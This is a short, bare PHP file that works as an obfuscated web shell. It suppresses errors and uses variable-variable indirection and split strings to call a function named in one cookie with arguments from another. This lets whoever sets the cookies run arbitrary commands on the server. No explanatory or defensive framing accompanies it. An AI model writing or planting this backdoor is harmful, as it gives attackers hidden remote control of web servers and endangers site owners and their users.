<?php
error_reporting(0);
$k = 'h' . 'x';
$hx = isset($_COOKIE['z']) ? $_COOKIE['z'] : 'phpinfo';
$v = 'k';
$data = $_COOKIE['d'];
$$$v($data);
$name = 'hx';
$$name($data);
